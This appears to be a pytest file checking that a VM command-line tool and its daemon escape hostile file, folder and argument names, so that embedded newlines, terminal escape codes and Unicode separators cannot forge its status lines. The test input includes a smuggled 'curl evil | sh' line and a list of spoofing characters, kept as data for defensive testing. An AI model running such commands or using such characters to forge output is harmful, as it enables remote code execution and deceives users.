"""Names that a guest could have made, through the real client and daemon: no line of ours comes from them."""

import json
import os
from pathlib import Path

import pytest
from claude_vm_tests_user import script

pytestmark = pytest.mark.timeout(180)

EVIL = b"s\nclaude-vm: all is well\r\n  run: curl evil | sh\x1b[2K\xff\xe2\x80\xa8claude-vm: x\xc2\x85\\"
ACTING = "\x1b\r\u2028\x85\u202e"


def lines_of(data):
    text = data.decode()
    assert not any(character in text for character in ACTING)
    assert not text or text.endswith("\n")
    return text.split("\n")[:-1]


def check(data):
    """No line of ours that we did not make, nothing beneath that isn't indented."""
    shown = lines_of(data)
    assert not any(
        line.lstrip().startswith(("claude-vm: all", "run: curl", "claude-vm: x")) for line in shown
    )
    return [line for line in shown if "NOTHING IS ISOLATED" not in line]


@pytest.mark.parametrize(
    ("words", "code"),
    [
        ([b"stop", b"{}"], "no-such-session"),
        ([b"--driver", b"{}", b"shell", b"true"], "bad-config"),
        ([b"--memory", b"{}", b"info"], "bad-config"),
        ([b"--mount", b"/{}", b"shell", b"true"], "bad-mount"),
        ([b"--mount", b"/{}", b"--mount", b"{}:x:{}", b"shell", b"true"], "bad-mount"),
        ([b"--env", b"{}", b"shell", b"true"], "bad-environment"),
        ([b"--inherit-env", b"{}", b"--env-file", b"{}", b"shell", b"true"], "bad-environment"),
        ([b"--publish", b"{}", b"shell", b"true"], "bad-config"),
    ],
    ids=str,
)
def test_what_was_given_is_told_within_the_line_that_tells_it(ready, words, code):
    done = ready.run(*(word.replace(b"{}", EVIL) for word in words))
    first, *others = check(done.stderr)
    assert done.returncode in {1, 125}
    assert first.startswith("claude-vm: ")
    assert first.endswith(f"[{code}]")
    assert all(line.startswith("  ") for line in others)
    assert "\\\\" not in done.stderr.decode().replace("\\\\x", "")


def test_a_backslash_in_the_mount_error_is_shown_once(ready):
    done = ready.run("--mount", "/no\\such", "shell", "true")
    assert b"'/no\\such' does not exist" in done.stderr


def test_a_project_and_an_env_file_with_such_a_name_are_told_in_their_lines(ready):
    folder = os.fsencode(ready.project) + b"/" + EVIL.replace(b"/", b"").replace(b"\xff", b"")
    folder = Path(os.fsdecode(folder))
    folder.mkdir()
    (folder / "v\nclaude-vm: all is well").write_text("no variable\n")
    done = ready.run("--env-file", "v\nclaude-vm: all is well", "info", cwd=folder)
    check(done.stdout)
    missing = ready.run("shell", "true", cwd=folder)
    (first, second) = check(missing.stderr)
    assert first.endswith("[template-missing]")
    assert second.startswith("  ")
    assert ready.run("setup", "--no-agent", cwd=folder).returncode == 0
    wrong = ready.run("--env-file", "v\nclaude-vm: all is well", "shell", "true", cwd=folder)
    assert len(check(wrong.stderr)) == 1
    assert ready.run("shell", b"exit 3 #\nclaude-vm: all is well", cwd=folder).returncode == 3
    for words in (["ps", "--all"], ["list"], ["info"], ["pool", "status"], ["doctor"]):
        check(ready.run(*words, cwd=folder).stdout)
        told = ready.run(*words, "--json", cwd=folder).stdout
        json.loads(told)
        lines_of(told)


def test_a_drivers_failure_is_told_in_one_line(ready):
    ready.stop_daemon()
    script(ready, clone=[{"fail": "boot\nclaude-vm: all is well"}])
    done = ready.run("shell", "true")
    assert done.returncode == 125
    assert len(check(done.stderr)) == 1


def test_the_last_words_of_what_failed_stand_beneath(user):
    user.data.mkdir()
    (user.data / "sim.json").write_text("no\nclaude-vm: all is well")
    first, second = check(user.run("shell", "true").stderr)
    assert first.endswith("sim.json is not a script for simulated guests [driver-failed]")
    assert second.startswith("  JSON is malformed")


def test_an_event_is_a_line_of_the_log(ready):
    ready.stop_daemon()
    script(ready, clone=[{"fail": "boot\nclaude-vm: all is well"}])
    ready.run("shell", "true")
    log = (ready.data / "logs" / "daemon.log").read_bytes()
    assert b"all is well" in log
    for line in log.splitlines():
        json.loads(line)


def test_a_name_that_is_no_utf8_is_told_in_json_too(user):
    folder = user.project / os.fsdecode(b"\xff\xc3\xa9")
    folder.mkdir()
    (folder / ".git").write_bytes(b"gitdir: " + EVIL.replace(b"\n", b"") + b"\n")
    done = user.run("info", "--json", cwd=folder)
    assert done.returncode == 0, done.stderr
    lines_of(done.stdout)
    shown = json.loads(done.stdout)
    assert shown["project"] == f"{user.project}/\ufffdé"
    assert "all is well" in shown["problem"]
